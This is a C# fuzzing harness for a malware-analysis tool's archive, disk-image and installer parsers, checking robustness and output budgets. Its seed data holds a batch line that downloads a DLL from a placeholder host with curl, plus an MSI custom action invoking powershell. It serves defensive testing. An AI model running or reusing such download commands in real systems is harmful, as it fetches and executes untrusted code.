using Lurewatch.Files;
using Lurewatch.Files.Archives;
using Lurewatch.Samples;
using Lurewatch.Samples.Disks;

namespace Lurewatch.Fuzz;

/// <summary>Any bytes as an archive: nothing throws, what comes out stays inside the budget, and every file that is given is listed.</summary>
internal static class ArchiveTargets
{
    private static readonly byte[] Text = "curl http://fuzz.example/a.dll -o a.dll\r\n"u8.ToArray();
    private static readonly byte[] Long = [.. Enumerable.Range(0, 70_000).Select(i => (byte)(i % 253 ^ (i >> 12)))];

    public static Target Cab { get; } = Of(new CabHandler(), "a.cab", FileType.Cab, () => [.. new[] { "none", "mszip", "lzx", "quantum" }.Select(method => CabWriter.Write([("a.bat", Text), ("b.bin", Long)], method))]);
    public static Target Disk { get; } = Of(new DiskHandler(), "a.img", FileType.Disk, () =>
    [
        .. new[] { 12, 16, 32 }.Select(bits => FatWriter.Write(Items, bits)),
        ExFatWriter.Write(Items),
        NtfsWriter.Write(Items),
        DiskImages.FixedVhd(DiskImages.Partitioned(NtfsWriter.Write(Items))),
        DiskImages.DynamicVhd(FatWriter.Write(Items)),
    ]);
    public static Target Iso { get; } = Of(new IsoHandler(), "a.iso", FileType.Iso, () => [IsoWriter.Write(Items), IsoWriter.Write(Items, joliet: false)]);
    public static Target SevenZip { get; } = Of(new SevenZipHandler(), "a.7z", FileType.SevenZip, () => [SevenZipWriter.Write([("a.bat", Text)]), SevenZipWriter.Write([("a.bat", Text)], "infected")]);
    public static Target Rar { get; } = Of(new RarHandler(), "a.rar", FileType.Rar, () => [RarWriter.Write5([("a.bat", Text)]), RarWriter.Write5([("a.bat", Text)], "infected"), RarWriter.Write4([("a.bat", Text)])]);

    public static Target Msi { get; } = new(RunInstaller, "samples", () => [MsiWriter.Write([("Tool", "powershell")], [("Run", 34, "TARGETDIR", "[Tool] -c x"), ("Script", 5, "script", "main")], [("Binary.script", Text), ("a.cab", CabWriter.Write([("a.bat", Text)]))])]);
    public static Target Tar { get; } = Of(new TarHandler(), "a.tar", FileType.Tar, () => [TarSeed()]);

    private static DiskItem[] Items => [new("folder/a long name.bat", Text), new("b.bin", Long[..9000], Hidden: true)];

    private static byte[] TarSeed()
    {
        using var tar = new MemoryStream();
        using (var writer = new System.Formats.Tar.TarWriter(tar, System.Formats.Tar.TarEntryFormat.Pax, leaveOpen: true))
            foreach (var name in new[] { "folder/a.bat", new string('n', 120) + ".bat" }) writer.WriteEntry(new System.Formats.Tar.PaxTarEntry(System.Formats.Tar.TarEntryType.RegularFile, name) { DataStream = new MemoryStream(Text), ModificationTime = DateTimeOffset.UnixEpoch });
        return tar.ToArray();
    }

    /// <summary>An installer is no archive by its facts: what it gives is bounded by its own streams and actions.</summary>
    private static void RunInstaller(ReadOnlySpan<byte> data)
    {
        var limits = new AnalysisLimits();
        var found = new MsiHandler().Extract(new Artifact(data.ToArray(), "a.msi", "/a.msi", parent: null, "input", FileType.Msi), new FileContext(new AnalysisBudget(limits, TimeProvider.System), []));
        if (found.Facts is not InstallerFacts) throw new InvalidOperationException("no facts");
        if (found.Files.Sum(file => (long)file.Bytes.Length) > limits.TotalBytesOut) throw new InvalidOperationException("over the total limit");
    }

    private static Target Of(IFileHandler handler, string name, FileType type, Func<IReadOnlyList<byte[]>> seeds) => new(data => Run(handler, name, type, data), "samples", seeds);

    private static void Run(IFileHandler handler, string name, FileType type, ReadOnlySpan<byte> data)
    {
        var limits = new AnalysisLimits();
        var found = handler.Extract(new Artifact(data.ToArray(), name, "/" + name, parent: null, "input", type), new FileContext(new AnalysisBudget(limits, TimeProvider.System), [new PasswordCandidate("infected", "usual")]));
        if (found.Facts is not ArchiveFacts facts) throw new InvalidOperationException("no facts");
        if (found.Files.Count > facts.Entries.Count) throw new InvalidOperationException("files that are not listed");
        if (found.Files.Sum(file => (long)file.Bytes.Length) > limits.TotalBytesOut) throw new InvalidOperationException("over the total limit");
        if (found.Unopened is null && facts.Entries.Any(entry => entry.State is not "opened")) throw new InvalidOperationException("opened, with entries that are not");
    }
}
